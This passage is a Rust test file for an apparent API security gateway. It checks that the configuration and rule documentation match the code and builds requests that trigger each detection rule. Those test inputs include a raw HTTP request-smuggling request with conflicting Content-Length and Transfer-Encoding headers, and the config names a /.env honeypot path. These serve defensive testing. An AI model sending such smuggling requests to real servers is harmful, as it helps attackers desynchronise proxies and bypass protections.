//! Keeps `docs/config.md` and `docs/rules.md` honest.
//!
//! - Every field of the config model (found by serializing a fully populated
//!   config) has a row in a field table of `config.md`, every row names a real
//!   field, and every default written there is the one the code applies.
//! - Every YAML block in `config.md` is run through the real parser and
//!   compiler: `# example` blocks are complete configs, `# fragment` blocks are
//!   merged into a minimal config, and `# error-example` blocks must fail with
//!   exactly the text of the `text` block that follows them.
//! - Every rule id in the source has a section and a summary row in
//!   `rules.md`, every documented id exists, and each rule is triggered here to
//!   check the check name, status and severity the summary table gives. The
//!   few rules only the live gateway can produce (timing) are listed in
//!   `gateway_only_rules()` instead: their finding, built by the code the
//!   gateway calls, is checked against the table, offline evaluation must
//!   never produce them, and their section must say so.

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};

use portcullis_policy::offline::{evaluate, parse_raw_request};
use portcullis_policy::{Config, Finding, Policy};
use serde_json::Value;

const CONFIG_MD: &str = include_str!(concat!(env!("CARGO_MANIFEST_DIR"), "/../../docs/config.md"));
const RULES_MD: &str = include_str!(concat!(env!("CARGO_MANIFEST_DIR"), "/../../docs/rules.md"));

/// Sets every field and every optional block, so serializing it reaches every
/// field path of the model. `full_config_sets_everything` fails when a new
/// field is left out here.
const FULL_CONFIG: &str = r#"
runtime:
  worker_threads: 2
  drain_timeout: 5s
  watch_config: false
listeners:
  - address: 127.0.0.1:8443
    http2: true
    tls:
      cert: cert.pem
      key: key.pem
      client_auth:
        mode: optional
        ca: ca.pem
admin:
  address: 127.0.0.1:9091
  token: secret
  token_env: PORTCULLIS_ADMIN_TOKEN
limits:
  max_header_bytes: 32KiB
  max_headers: 50
  max_uri_bytes: 4KiB
  max_body_bytes: 1MiB
  header_read_timeout: 5s
  idle_timeout: 30s
  body_read_timeout: 15s
  max_connections: 100
  max_concurrent_streams: 10
trusted_proxies: ["10.0.0.0/8"]
request_id:
  header: x-correlation-id
  propagate: false
upstreams:
  api:
    endpoints: ["https://10.0.0.1:8443"]
    balance: least_requests
    connect_timeout: 1s
    response_timeout: 2s
    retries: 2
    pool_idle_timeout: 10s
    pool_max_idle_per_endpoint: 4
    tls:
      ca: ca.pem
      client_cert: client.pem
      client_key: client.key
      server_name: api.internal
    health_check:
      path: /ready
      interval: 2s
      timeout: 500ms
      healthy_threshold: 1
      unhealthy_threshold: 2
    passive_ejection:
      enabled: false
      consecutive_failures: 3
      ejection_time: 10s
policies:
  strict:
    mode: monitor
    ip_access:
      mode: monitor
      allow: ["10.0.0.0/8"]
      deny: ["10.9.0.0/16"]
    request_limits:
      mode: monitor
      methods: [GET]
      max_body_bytes: 1KiB
      max_uri_bytes: 1KiB
      max_query_params: 5
      max_headers: 20
    openapi:
      spec: ../examples/quickstart/openapi.yaml
      mode: monitor
      base_path: /api
      unknown_query: strip
      unknown_headers: block
      unknown_cookies: strip
      strict_objects: false
      refuse_read_only: false
      max_body_depth: 8
      max_array_items: 100
      max_string_length: 1000
      max_binary_bytes: 1MiB
      validate_responses: sample
      response_sample_one_in: 10
      response_exposure: strip
      max_response_bytes: 64KiB
      operations:
        getUser:
          mode: block
          unknown_query: allow
          unknown_headers: allow
          unknown_cookies: block
          strict_objects: true
          refuse_read_only: true
          max_body_depth: 4
          max_array_items: 10
          max_string_length: 100
          max_binary_bytes: 1KiB
          validate_responses: headers_only
          response_sample_one_in: 2
          response_exposure: monitor
          max_response_bytes: 1KiB
    threat_detection:
      mode: monitor
      paranoia_level: 3
      anomaly_threshold: 10
      headers: [user-agent, referer, cookie]
      skip_headers: [host]
      inspect_body: false
      max_value_bytes: 16KiB
      disabled_categories: [ssrf]
      exceptions:
        - rules: [sqli.tautology, "xss.*"]
          locations: [query.q, "body:/notes/*"]
          routes: [api]
          operations: [searchUsers]
    rate_limits:
      mode: monitor
      limits:
        - name: per-ip
          key: [client_ip, "header:x-tenant"]
          rate: 10/s
          burst: 20
          quota: 100/1m
          operations: [getUser]
          methods: [GET]
          on_store_error: fail_closed
          mode: block
        - name: daily
          key: ["api_key:x-api-key"]
          quota: 10000/1d
    identity:
      mode: monitor
      require: [jwt, api_key, mtls]
      jwt:
        algorithms: [RS256, HS256]
        issuers: [https://id.example.com]
        audiences: [api]
        leeway: 10s
        require_exp: false
        required_claims: [sub]
        keys:
          - secret: an-hmac-secret-of-at-least-32-bytes
            secret_env: PORTCULLIS_DOCS_TEST_UNSET_SECRET
            kid: hs
          - file: ../crates/policy/tests/data/identity-key.pem
        jwks_url: https://id.example.com/jwks.json
        jwks_refresh: 1m
        jwks_grace: 10m
        jwks_min_refetch: 10s
        jwks_timeout: 2s
        token:
          header: x-token
          cookie: token
      api_keys:
        header: x-key
        query: key
        keys:
          - sha256: 5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8
            principal: job
            scopes: [reports:read]
      mtls:
        principal: san
        scopes:
          billing.internal: [billing:write]
      introspection:
        url: https://id.example.com/oauth2/introspect
        client_id: gateway
        client_secret_env: PORTCULLIS_DOCS_TEST_UNSET_SECRET
        client_secret_file: ../crates/policy/tests/data/introspection-secret.txt
        client_auth: client_secret_post
        timeout: 1s
        cache_ttl: 30s
        negative_cache_ttl: 5s
        cache_size: 1000
        failure_threshold: 3
        cool_down: 5s
        max_concurrent_calls: 8
        on_unavailable: 401
        issuers: [https://id.example.com]
        audiences: [api]
        leeway: 10s
        token:
          header: x-opaque
          cookie: opaque
      upstream_headers:
        subject: x-user
        scopes: x-user-scopes
        method: x-user-auth
        claims:
          x-user-tenant: tenant
      operations:
        getUser:
          claims: ["role in [admin, support]"]
          bola:
            - param: path.userId
              claim: sub
              unless_scopes: [users:admin]
    honeypot:
      mode: monitor
      paths: [/.env]
      body_fields: [/is_admin]
      ban: 10m
    brute_force:
      mode: monitor
      operations: [login]
      paths: [/login]
      username: "header:x-user"
      failure_statuses: [401, 403]
      per_ip: 20/10m
      per_username: 10/15m
      per_ip_username: 5/15m
      global: 1000/1m
      usernames_per_ip: 10/10m
      ips_per_username: 20/1h
      action: delay
      lockout_time: 5m
      delay: 1s
      max_delay: 20s
      failure_ratio:
        window: 30s
        min_attempts: 50
        max_ratio: 0.9
        baseline_factor: 3.0
        baseline_window: 2h
        cool_down: 10m
        action: block
        delay: 3s
        remember_success: 24h
    bots:
      mode: monitor
      browser_facing: true
      browser_paths: [/shop]
      exempt_paths: [/health]
      deny_ja4: [t13i311000_e8f1e7e78f70_d41ae481755e]
      cadence:
        enabled: true
        samples: 10
        max_variation: 0.05
        max_clients: 1000
      honeypot_memory: 10m
      tag_reasons: true
      tag_ja4: true
      weights:
        automation_user_agent: 50
        headless_user_agent: 70
        missing_user_agent: 30
        missing_browser_header: 5
        missing_fetch_metadata: 10
        client_hints_mismatch: 20
        header_order: 25
        protocol_anomaly: 25
        denied_ja4: 90
        ja4_mismatch: 20
        regular_cadence: 25
        honeypot: 90
      bands:
        - from: 60
          action: limit
          rate: 10/1m
        - from: 80
          action: block
routes:
  - name: api
    match:
      host: api.example.com
      path_prefix: /api
    upstream: api
    policy: strict
    strip_prefix: /api
audit_log:
  enabled: true
  output: stderr
access_log:
  enabled: true
  output: stdout
rate_limit_store:
  backend: redis
  max_keys: 5000
  redis:
    url: redis://127.0.0.1:6379/0
    # Exactly one of url and cluster is valid; both are set to check both.
    cluster: [redis://10.0.0.1:6379]
    key_prefix: "pc:"
    timeout: 50ms
    lease: 10
    lease_ttl: 500ms
    retry_interval: 2s
access_lists:
  mode: monitor
  refresh: 500ms
  max_entries: 500
"#;

/// Only what is required, with every optional block present but empty, so
/// serializing it shows the default of every field.
const DEFAULTS_CONFIG: &str = r#"
listeners:
  - address: 127.0.0.1:8443
    tls:
      cert: cert.pem
      key: key.pem
      client_auth:
        mode: required
        ca: ca.pem
admin: {}
upstreams:
  api:
    endpoints: ["http://10.0.0.1:8080"]
    tls: {}
    health_check: {}
policies:
  strict:
    ip_access: {}
    request_limits: {}
    openapi:
      spec: ../examples/quickstart/openapi.yaml
      operations:
        getUser: {}
    threat_detection:
      exceptions:
        - rules: [sqli.union]
    rate_limits:
      limits:
        - name: per-ip
          key: [client_ip]
    identity:
      jwt:
        keys:
          - file: ../crates/policy/tests/data/identity-key.pem
        token: {}
      api_keys:
        keys:
          - sha256: 5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8
            principal: job
      mtls: {}
      introspection:
        url: https://id.example.com/oauth2/introspect
        client_id: gateway
        client_secret_file: ../crates/policy/tests/data/introspection-secret.txt
        token: {}
      upstream_headers: {}
      operations:
        getUser:
          bola:
            - param: path.userId
              claim: sub
    honeypot: {}
    brute_force:
      failure_ratio: {}
    bots: {}
routes:
  - name: api
    match: {}
    upstream: api
rate_limit_store:
  redis: {}
access_lists: {}
"#;

/// Config fields whose keys are names chosen by the user.
const NAMED_MAPS: &[&str] = &[
    "upstreams",
    "policies",
    "policies.<name>.openapi.operations",
    "policies.<name>.identity.operations",
    "policies.<name>.identity.mtls.scopes",
    "policies.<name>.identity.upstream_headers.claims",
];

fn compile(name: &str, source: &str) -> Result<Policy, String> {
    // Spec files are resolved against the config file's directory; the
    // configs here are named without one, so they resolve against the
    // working directory, which is made docs/ (as for a config beside it).
    // Every test of this file compiles before it reads anything relative.
    static IN_DOCS: std::sync::Once = std::sync::Once::new();
    IN_DOCS.call_once(|| {
        let docs = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs");
        std::env::set_current_dir(docs).expect("docs/ exists");
    });
    let path = Path::new(name);
    let config = Config::parse(path, source).map_err(|e| e.to_string())?;
    Policy::compile(config, path, source).map_err(|e| e.to_string())
}

fn config_json(name: &str, source: &str) -> Value {
    let policy = compile(name, source).unwrap_or_else(|e| panic!("{name} must compile: {e}"));
    serde_json::to_value(&policy.config).expect("config serializes")
}

// ── Field paths ─────────────────────────────────────────────────────────

/// Every key of `value` as a dotted path (`routes[].match.host`,
/// `upstreams.<name>.tls.ca`), with the value found there.
fn field_paths(value: &Value) -> BTreeMap<String, Value> {
    fn walk(value: &Value, path: &str, out: &mut BTreeMap<String, Value>) {
        match value {
            Value::Object(map) => {
                for (key, child) in map {
                    let segment = if NAMED_MAPS.contains(&path) {
                        "<name>"
                    } else {
                        key.as_str()
                    };
                    let mut child_path = if path.is_empty() {
                        segment.to_owned()
                    } else {
                        format!("{path}.{segment}")
                    };
                    if child
                        .as_array()
                        .is_some_and(|a| a.iter().any(Value::is_object))
                    {
                        child_path.push_str("[]");
                    }
                    out.entry(child_path.clone())
                        .or_insert_with(|| child.clone());
                    walk(child, &child_path, out);
                }
            }
            Value::Array(items) => {
                for item in items.iter().filter(|i| i.is_object()) {
                    walk(item, path, out);
                }
            }
            _ => {}
        }
    }
    let mut out = BTreeMap::new();
    walk(value, "", &mut out);
    out
}

fn is_block(value: &Value) -> bool {
    value.is_object()
        || value
            .as_array()
            .is_some_and(|a| a.iter().any(Value::is_object))
}

/// A row of a `| Field | Type | Default | Description |` table.
struct FieldRow {
    line: usize,
    default: String,
}

fn field_rows(doc: &str) -> BTreeMap<String, FieldRow> {
    let mut rows = BTreeMap::new();
    let mut in_table = false;
    for (n, line) in doc.lines().enumerate() {
        let line = line.trim();
        if line.starts_with("| Field |") {
            in_table = true;
            continue;
        }
        if !line.starts_with('|') {
            in_table = false;
            continue;
        }
        if !in_table || line.starts_with("| ---") {
            continue;
        }
        let cells: Vec<&str> = line.trim_matches('|').split('|').map(str::trim).collect();
        assert_eq!(
            cells.len(),
            4,
            "config.md:{}: a field row needs 4 cells (no '|' inside cells): {line}",
            n + 1
        );
        let path = cells[0];
        assert!(
            path.len() > 2
                && path.starts_with('`')
                && path.ends_with('`')
                && path.matches('`').count() == 2,
            "config.md:{}: the first cell must be one `field.path`: {line}",
            n + 1
        );
        let path = path.trim_matches('`').to_owned();
        let previous = rows.insert(
            path.clone(),
            FieldRow {
                line: n + 1,
                default: cells[2].to_owned(),
            },
        );
        assert!(
            previous.is_none(),
            "config.md:{}: `{path}` has two rows",
            n + 1
        );
    }
    rows
}

#[test]
fn full_config_sets_everything() {
    let json = config_json("full.yaml", FULL_CONFIG);
    for (path, value) in field_paths(&json) {
        let empty = value.is_null()
            || value.as_array().is_some_and(Vec::is_empty)
            || value.as_object().is_some_and(|o| o.is_empty());
        assert!(
            !empty,
            "FULL_CONFIG in this test leaves `{path}` empty: set it, so the fields under it are checked against docs/config.md"
        );
    }
}

#[test]
fn every_config_field_is_documented() {
    let paths = field_paths(&config_json("full.yaml", FULL_CONFIG));
    let rows = field_rows(CONFIG_MD);
    let mut missing = Vec::new();
    for (path, value) in &paths {
        if !CONFIG_MD.contains(&format!("`{path}`")) {
            missing.push(format!("`{path}` is not mentioned"));
        } else if !is_block(value) && !rows.contains_key(path) {
            missing.push(format!("`{path}` has no row in a `| Field |` table"));
        }
    }
    assert!(
        missing.is_empty(),
        "docs/config.md is missing fields:\n{}",
        missing.join("\n")
    );
}

#[test]
fn every_documented_field_exists() {
    let paths = field_paths(&config_json("full.yaml", FULL_CONFIG));
    let stale: Vec<String> = field_rows(CONFIG_MD)
        .into_iter()
        .filter(|(path, _)| !paths.contains_key(path))
        .map(|(path, row)| {
            format!(
                "config.md:{}: `{path}` is not a field of the config model",
                row.line
            )
        })
        .collect();
    assert!(stale.is_empty(), "{}", stale.join("\n"));
}

/// How a default value must appear in the Default cell.
fn rendered_default(value: &Value) -> String {
    match value {
        Value::Null => "none".to_owned(),
        Value::String(s) => s.clone(),
        Value::Array(a) if a.is_empty() => "[]".to_owned(),
        other => other.to_string(),
    }
}

#[test]
fn documented_defaults_are_the_code_defaults() {
    let defaults = field_paths(&config_json("defaults.yaml", DEFAULTS_CONFIG));
    let full = field_paths(&config_json("full.yaml", FULL_CONFIG));
    for (path, value) in &full {
        if value.is_object() {
            assert!(
                defaults.get(path).is_some_and(Value::is_object),
                "DEFAULTS_CONFIG in this test must write the block `{path}` (as `{{}}` or with its required fields only)"
            );
        }
    }
    let rows = field_rows(CONFIG_MD);
    let mut wrong = Vec::new();
    for (path, value) in &defaults {
        if is_block(value) {
            continue;
        }
        let Some(row) = rows.get(path) else {
            wrong.push(format!("`{path}` has no row"));
            continue;
        };
        if row.default.contains("required") {
            continue;
        }
        let want = rendered_default(value);
        if !row.default.contains(&want) {
            wrong.push(format!(
                "config.md:{}: `{path}` defaults to {want:?} in the code, the doc says {:?}",
                row.line, row.default
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

// ── YAML blocks ─────────────────────────────────────────────────────────

struct CodeBlock {
    line: usize,
    lang: String,
    text: String,
}

fn code_blocks(doc: &str) -> Vec<CodeBlock> {
    let mut blocks = Vec::new();
    let mut current: Option<CodeBlock> = None;
    for (n, line) in doc.lines().enumerate() {
        match (&mut current, line.trim_start().strip_prefix("```")) {
            (None, Some(lang)) => {
                current = Some(CodeBlock {
                    line: n + 1,
                    lang: lang.trim().to_owned(),
                    text: String::new(),
                })
            }
            (Some(_), Some(_)) => blocks.extend(current.take()),
            (Some(block), None) => {
                block.text.push_str(line);
                block.text.push('\n');
            }
            (None, None) => {}
        }
    }
    assert!(current.is_none(), "unterminated code block");
    blocks
}

/// The smallest config a fragment is merged into.
const FRAGMENT_BASE: &str = r#"
listeners:
  - address: 127.0.0.1:8080
upstreams:
  demo:
    endpoints: ["builtin:demo"]
routes:
  - name: default
    match: {}
    upstream: demo
"#;

fn merge(base: &mut Value, overlay: Value) {
    match (base, overlay) {
        (Value::Object(base), Value::Object(overlay)) => {
            for (key, value) in overlay {
                match base.get_mut(&key) {
                    Some(existing) => merge(existing, value),
                    None => {
                        base.insert(key, value);
                    }
                }
            }
        }
        (base, overlay) => *base = overlay,
    }
}

#[test]
fn yaml_blocks_in_config_md_parse_and_compile() {
    let blocks = code_blocks(CONFIG_MD);
    let mut examples = 0;
    let mut errors = 0;
    for (i, block) in blocks.iter().enumerate() {
        if block.lang != "yaml" {
            continue;
        }
        let at = format!("config.md:{}", block.line);
        let first = block.text.lines().next().unwrap_or("").trim();
        match first {
            "# example" => {
                examples += 1;
                if let Err(e) = compile("gateway.yaml", &block.text) {
                    panic!("{at}: example does not compile: {e}");
                }
            }
            "# fragment" => {
                let mut merged: Value = serde_saphyr::from_str(FRAGMENT_BASE).unwrap();
                let fragment: Value = serde_saphyr::from_str(&block.text)
                    .unwrap_or_else(|e| panic!("{at}: fragment is not YAML: {e}"));
                merge(&mut merged, fragment);
                // JSON is YAML, so the merged document goes through the real parser.
                let source = serde_json::to_string_pretty(&merged).unwrap();
                if let Err(e) = compile("fragment.yaml", &source) {
                    panic!("{at}: fragment does not compile once merged: {e}\n{source}");
                }
            }
            "# error-example" => {
                errors += 1;
                let expected = blocks
                    .get(i + 1)
                    .filter(|b| b.lang == "text")
                    .unwrap_or_else(|| panic!("{at}: an error-example must be followed by a ```text block with the error"));
                match compile("gateway.yaml", &block.text) {
                    Ok(_) => panic!("{at}: error-example compiles without error"),
                    Err(e) => assert_eq!(
                        e,
                        expected.text.trim(),
                        "{at}: the error shown in config.md:{} is not what the code prints",
                        expected.line
                    ),
                }
            }
            other => panic!(
                "{at}: every yaml block starts with `# example`, `# fragment` or `# error-example` (found {other:?})"
            ),
        }
    }
    assert!(examples >= 1, "config.md must keep a complete `# example`");
    assert!(
        errors >= 1,
        "config.md must keep at least one `# error-example`"
    );
}

// ── Rule ids ────────────────────────────────────────────────────────────

/// A string literal in Rust source, with the code before it (comments and
/// literals blanked out).
struct Literal {
    text: String,
    before: String,
}

/// Finds the string literals of a Rust file outside `#[cfg(test)]` items.
fn string_literals(source: &str) -> Vec<Literal> {
    let c: Vec<char> = source.chars().collect();
    let mut code = c.clone();
    let mut found: Vec<(usize, String)> = Vec::new();
    let is_ident = |ch: char| ch.is_alphanumeric() || ch == '_';
    let blank = |code: &mut Vec<char>, from: usize, to: usize| {
        for ch in &mut code[from..to.min(c.len())] {
            if *ch != '\n' {
                *ch = ' ';
            }
        }
    };
    let mut i = 0;
    while i < c.len() {
        let next = c.get(i + 1).copied();
        if c[i] == '/' && next == Some('/') {
            let end = c[i..]
                .iter()
                .position(|&x| x == '\n')
                .map_or(c.len(), |p| i + p);
            blank(&mut code, i, end);
            i = end;
        } else if c[i] == '/' && next == Some('*') {
            let mut depth = 0;
            let mut j = i;
            while j < c.len() {
                if c[j] == '/' && c.get(j + 1) == Some(&'*') {
                    depth += 1;
                    j += 2;
                } else if c[j] == '*' && c.get(j + 1) == Some(&'/') {
                    depth -= 1;
                    j += 2;
                    if depth == 0 {
                        break;
                    }
                } else {
                    j += 1;
                }
            }
            blank(&mut code, i, j);
            i = j;
        } else if c[i] == 'r'
            && matches!(next, Some('"') | Some('#'))
            && (i == 0
                || !is_ident(c[i - 1])
                || (c[i - 1] == 'b' && (i < 2 || !is_ident(c[i - 2]))))
        {
            let mut j = i + 1;
            while c.get(j) == Some(&'#') {
                j += 1;
            }
            let hashes = j - i - 1;
            if c.get(j) != Some(&'"') {
                i += 1; // a raw identifier such as r#type
                continue;
            }
            let start = j + 1;
            let mut k = start;
            while k < c.len() && !(c[k] == '"' && (1..=hashes).all(|h| c.get(k + h) == Some(&'#')))
            {
                k += 1;
            }
            found.push((i, c[start..k.min(c.len())].iter().collect()));
            blank(&mut code, i, k + 1 + hashes);
            i = k + 1 + hashes;
        } else if c[i] == '"' {
            let mut j = i + 1;
            while j < c.len() && c[j] != '"' {
                j += if c[j] == '\\' { 2 } else { 1 };
            }
            found.push((i, c[i + 1..j.min(c.len())].iter().collect()));
            blank(&mut code, i, j + 1);
            i = j + 1;
        } else if c[i] == '\'' {
            if next == Some('\\') {
                let mut j = i + 3;
                while j < c.len() && c[j] != '\'' {
                    j += 1;
                }
                blank(&mut code, i, j + 1);
                i = j + 1;
            } else if c.get(i + 2) == Some(&'\'') {
                blank(&mut code, i, i + 3);
                i += 3;
            } else {
                i += 1; // a lifetime
            }
        } else {
            i += 1;
        }
    }
    // Ranges of `#[cfg(test)]` items, found in the blanked code so braces in
    // strings and comments do not count.
    let code_text: String = code.iter().collect();
    let code_chars: Vec<char> = code_text.chars().collect();
    let mut test_ranges = Vec::new();
    let mut search = 0;
    while let Some(offset) = code_text[search..].find("#[cfg(test)]") {
        let start_byte = search + offset;
        let start = code_text[..start_byte].chars().count();
        let mut j = start + "#[cfg(test)]".len();
        while j < code_chars.len() && code_chars[j] != '{' && code_chars[j] != ';' {
            j += 1;
        }
        if code_chars.get(j) == Some(&'{') {
            let mut depth = 0;
            while j < code_chars.len() {
                match code_chars[j] {
                    '{' => depth += 1,
                    '}' => {
                        depth -= 1;
                        if depth == 0 {
                            break;
                        }
                    }
                    _ => {}
                }
                j += 1;
            }
        }
        test_ranges.push(start..=j);
        search = start_byte + "#[cfg(test)]".len();
    }
    found
        .into_iter()
        .filter(|(pos, _)| !test_ranges.iter().any(|r| r.contains(pos)))
        .map(|(pos, text)| {
            let from = pos.saturating_sub(80);
            Literal {
                text,
                before: code_chars[from..pos]
                    .iter()
                    .collect::<String>()
                    .trim_end()
                    .to_owned(),
            }
        })
        .collect()
}

fn looks_like_rule_id(text: &str) -> bool {
    let mut parts = text.split('.');
    let first = parts.next().unwrap_or("");
    let rest: Vec<&str> = parts.collect();
    let word = |w: &str| {
        w.starts_with(|ch: char| ch.is_ascii_lowercase())
            && w.chars()
                .all(|ch| ch.is_ascii_lowercase() || ch.is_ascii_digit() || ch == '_')
    };
    !rest.is_empty() && word(first) && rest.iter().all(|w| word(w))
}

fn rs_files(dir: &Path, out: &mut Vec<PathBuf>) {
    let mut entries: Vec<_> = std::fs::read_dir(dir)
        .unwrap_or_else(|e| panic!("cannot read {}: {e}", dir.display()))
        .map(|e| e.unwrap().path())
        .collect();
    entries.sort();
    for path in entries {
        if path.is_dir() {
            // Integration tests and benches are test code; `target` is not source.
            let name = path.file_name().and_then(|n| n.to_str()).unwrap_or("");
            if !matches!(name, "tests" | "benches" | "target") {
                rs_files(&path, out);
            }
        } else if path.extension().is_some_and(|e| e == "rs") {
            out.push(path);
        }
    }
}

/// The rule ids in one Rust file: dotted lower-case literals outside test
/// code that are in one of the rule families, written after `rule:`, or passed
/// first to a function whose name ends in `finding` or `violation`.
fn rule_ids_in(source: &str) -> Vec<String> {
    string_literals(source)
        .into_iter()
        .filter(|literal| looks_like_rule_id(&literal.text))
        // Only literals in a rule position: config field paths such as
        // "limits.idle_timeout" look like rule ids but are not.
        .filter(|literal| {
            literal.before.ends_with("rule:")
                || literal.before.ends_with("finding(")
                || literal.before.ends_with("violation(")
        })
        .map(|literal| literal.text)
        .collect()
}

/// Every rule id the code under `crates/` can emit, with the file it is in.
fn rule_ids_in_source() -> BTreeMap<String, String> {
    let crates = Path::new(env!("CARGO_MANIFEST_DIR")).join("..");
    let mut files = Vec::new();
    rs_files(&crates, &mut files);
    assert!(
        files.len() > 10,
        "found only {} source files under {}",
        files.len(),
        crates.display()
    );
    let mut ids = BTreeMap::new();
    for file in files {
        let source = std::fs::read_to_string(&file).unwrap();
        for id in rule_ids_in(&source) {
            ids.entry(id).or_insert_with(|| file.display().to_string());
        }
    }
    // The identity crate names its rules in one catalogue (`AuthError::rule`).
    for rule in portcullis_identity::RULES {
        ids.entry((*rule).to_owned())
            .or_insert_with(|| "crates/identity/src/error.rs".to_owned());
    }
    // The detection engines declare their rules in one catalogue.
    for rule in portcullis_detect::rules::ALL {
        ids.entry(rule.id.to_owned())
            .or_insert_with(|| "crates/detect/src/rules.rs".to_owned());
    }
    ids
}

/// `### \`rule.id\`` headings of rules.md.
fn rule_sections() -> BTreeSet<String> {
    RULES_MD
        .lines()
        .filter_map(|l| l.strip_prefix("### `"))
        .filter_map(|l| l.strip_suffix('`'))
        .map(str::to_owned)
        .collect()
}

/// Rows of the `| Rule | Check | Status | Severity | … |` table: id → (check, status, severity).
fn rule_table() -> BTreeMap<String, (String, String, String)> {
    let mut rows = BTreeMap::new();
    let mut in_table = false;
    for line in RULES_MD.lines().map(str::trim) {
        if line.starts_with("| Rule |") {
            in_table = true;
            continue;
        }
        if !line.starts_with('|') {
            in_table = false;
            continue;
        }
        if !in_table || line.starts_with("| ---") {
            continue;
        }
        let cells: Vec<String> = line
            .trim_matches('|')
            .split('|')
            .map(|c| c.trim().trim_matches('`').to_owned())
            .collect();
        assert!(cells.len() >= 4, "short rule table row: {line}");
        rows.insert(
            cells[0].clone(),
            (cells[1].clone(), cells[2].clone(), cells[3].clone()),
        );
    }
    rows
}

#[test]
fn the_rule_scanner_reads_rust_literals() {
    let source = r##"
fn a<'a>(x: &'a str) { let q = '"'; let e = '\''; let s: &'static str = "plain"; }
// "ip.in_comment"
/* "ip.in_block" /* nested "ip.nested" */ */
fn b() { self.finding("auth.token_missing", x); let r = r#"raw "ip.in_raw" "#; }
const F: Finding = Finding { rule: "body.json_depth", location: "client.ip".into() };
#[cfg(test)]
mod tests { fn t() { finding("test.only", "}"); let x = "ip.in_test"; } }
fn c() -> Finding { violation("protocol.after_tests", "{") }
"##;
    assert_eq!(
        rule_ids_in(source),
        [
            "auth.token_missing",
            "body.json_depth",
            "protocol.after_tests"
        ]
    );
}

#[test]
fn the_rule_scanner_sees_the_known_rules() {
    let ids = rule_ids_in_source();
    for known in [
        "ip.deny",
        "limits.method",
        "protocol.smuggling",
        "route.none",
    ] {
        assert!(
            ids.contains_key(known),
            "scanner missed {known}; found {ids:?}"
        );
    }
    assert!(
        !ids.contains_key("client.ip"),
        "a finding location is not a rule id: {ids:?}"
    );
}

#[test]
fn every_rule_id_is_documented_and_every_documented_rule_exists() {
    let ids = rule_ids_in_source();
    let sections = rule_sections();
    let table = rule_table();
    let mut problems = Vec::new();
    for (id, file) in &ids {
        if !sections.contains(id) {
            problems.push(format!(
                "{id} (from {file}) has no `### \\`{id}\\`` section in docs/rules.md"
            ));
        }
        if !table.contains_key(id) {
            problems.push(format!(
                "{id} (from {file}) has no row in the rules table of docs/rules.md"
            ));
        }
    }
    for id in sections.iter().chain(table.keys()) {
        if !ids.contains_key(id) {
            problems.push(format!(
                "docs/rules.md documents {id}, which the code never emits"
            ));
        }
    }
    assert!(problems.is_empty(), "{}", problems.join("\n"));
}

/// A policy and requests that trigger every rule.
const TRIGGER_CONFIG: &str = r#"
listeners:
  - address: 127.0.0.1:8080
limits:
  max_uri_bytes: 256
  max_headers: 20
  max_body_bytes: 1KiB
upstreams:
  demo:
    endpoints: ["builtin:demo"]
policies:
  deny:
    ip_access:
      deny: ["192.0.2.0/24"]
  allow:
    ip_access:
      allow: ["10.0.0.0/8"]
  limits:
    request_limits:
      methods: [GET]
      max_body_bytes: 16
      max_uri_bytes: 64
      max_query_params: 2
      max_headers: 3
  oa:
    openapi:
      spec: ../crates/policy/tests/data/openapi-triggers.yaml
      unknown_headers: block
      unknown_cookies: block
      max_string_length: 8
  oa_strip:
    openapi:
      spec: ../crates/policy/tests/data/openapi-triggers.yaml
      unknown_query: strip
      response_exposure: strip
      max_response_bytes: 64
  detect:
    threat_detection:
      paranoia_level: 4
      max_value_bytes: 1KiB
  idp:
    openapi:
      spec: ../crates/policy/tests/data/identity-triggers.yaml
    identity:
      jwt:
        issuers: [https://id.test]
        audiences: [api]
        required_claims: [sub]
        keys:
          - secret: the-docs-test-hmac-secret-32-bytes-long
            kid: hs
      api_keys:
        keys:
          - sha256: 5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8
            principal: job
      mtls: {}
      operations:
        idUser:
          bola:
            - param: path.userId
              claim: sub
        idTenant:
          claims: ["tenant == path.tenant"]
  idjwks:
    identity:
      require: [jwt]
      jwt:
        jwks_url: http://127.0.0.1:9/jwks.json
  idintro:
    identity:
      require: [jwt]
      introspection:
        url: http://127.0.0.1:9/introspect
        client_id: gateway
        client_secret_file: ../crates/policy/tests/data/introspection-secret.txt
routes:
  - name: idintro
    match:
      path_prefix: /idintro
    upstream: demo
    policy: idintro
  - name: idp
    match:
      path_prefix: /id
    upstream: demo
    policy: idp
  - name: idjwks
    match:
      path_prefix: /idjwks
    upstream: demo
    policy: idjwks
  - name: oa
    match:
      path_prefix: /oa
    upstream: demo
    policy: oa
  - name: oa_strip
    match:
      host: strip.test
      path_prefix: /oa
    upstream: demo
    policy: oa_strip
  - name: deny
    match:
      path_prefix: /deny
    upstream: demo
    policy: deny
  - name: allow
    match:
      path_prefix: /allow
    upstream: demo
    policy: allow
  - name: limits
    match:
      path_prefix: /limits
    upstream: demo
    policy: limits
  - name: detect
    match:
      path_prefix: /detect
    upstream: demo
    policy: detect
"#;

fn trigger_cases() -> Vec<(&'static str, String, &'static str)> {
    let get = |target: &str, extra_headers: &str| {
        format!("GET {target} HTTP/1.1\r\nHost: a\r\n{extra_headers}\r\n")
    };
    let many = |n: usize| (0..n).map(|i| format!("X-H{i}: v\r\n")).collect::<String>();
    let mut cases = vec![
        (
            "protocol.smuggling",
            "POST /deny HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n".to_owned(),
            "127.0.0.1",
        ),
        ("protocol.uri_too_long", get(&format!("/deny?{}", "a".repeat(300)), ""), "127.0.0.1"),
        ("protocol.header_too_large", get("/deny", &many(25)), "127.0.0.1"),
        (
            "protocol.body_too_large",
            format!("POST /deny HTTP/1.1\r\nHost: a\r\nContent-Length: 2000\r\n\r\n{}", "a".repeat(2000)),
            "127.0.0.1",
        ),
        ("protocol.bad_path", get("/deny/%zz", ""), "127.0.0.1"),
        (
            "protocol.connect",
            "CONNECT a:443 HTTP/1.1\r\nHost: a:443\r\n\r\n".to_owned(),
            "127.0.0.1",
        ),
        ("route.none", get("/nowhere", ""), "127.0.0.1"),
        ("ip.deny", get("/deny", ""), "192.0.2.7"),
